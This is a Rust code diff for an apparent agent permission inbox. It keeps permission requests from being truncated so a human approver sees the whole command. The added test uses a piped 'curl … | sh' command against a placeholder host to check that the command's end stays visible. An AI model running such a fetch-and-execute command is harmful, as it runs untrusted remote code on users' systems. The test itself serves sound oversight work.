@@ -95,14 +95,16 @@ fn draw(items: &[InboxView], window: Option<usize>) -> String {
     for (head, row) in heads.lines().zip(&rows) {
         text += &format!("{head}\n");
         let said: Vec<&str> = [&row[5], &row[7]].into_iter().map(String::as_str).filter(|it| !it.is_empty()).collect();
-        for line in wrapped(&said.join(" · "), window.saturating_sub(4), MAX_LINES) {
+        // A person decides about a permission by what is written here, so none of it may be missing.
+        let max_lines = if row[1] == "permission" { usize::MAX } else { MAX_LINES };
+        for line in wrapped(&said.join(" · "), window.saturating_sub(4), max_lines) {
             text += &format!("    {line}\n");
         }
     }
     text
 }
 
-/// How many lines of an item are shown in a narrow window.
+/// How many lines of an item that is no permission are shown in a narrow window.
 const MAX_LINES: usize = 4;
 
 /// Requests that ask the very same are one row, whoever asks it: `--all` answers them at once. So are agents that cannot
@@ -263,5 +265,8 @@ mod tests {
         assert!(text.lines().all(|line| width(line) <= 80), "{text}");
         assert!(text.contains(&format!("\n    {url} · R1: ask fetch for\n")), "{text}");
         assert_eq!(draw(&items, Some(200)).lines().count(), 1, "one line where there is room");
+        let long = format!("execute: curl {} | sh", "https://example.test/".repeat(40));
+        let text = draw(&[item("Q12", &long, &["allow", "deny"])], Some(80));
+        assert!(text.contains("| sh") && !text.contains('…'), "the end of a long command is there: {text}");
     }
 }
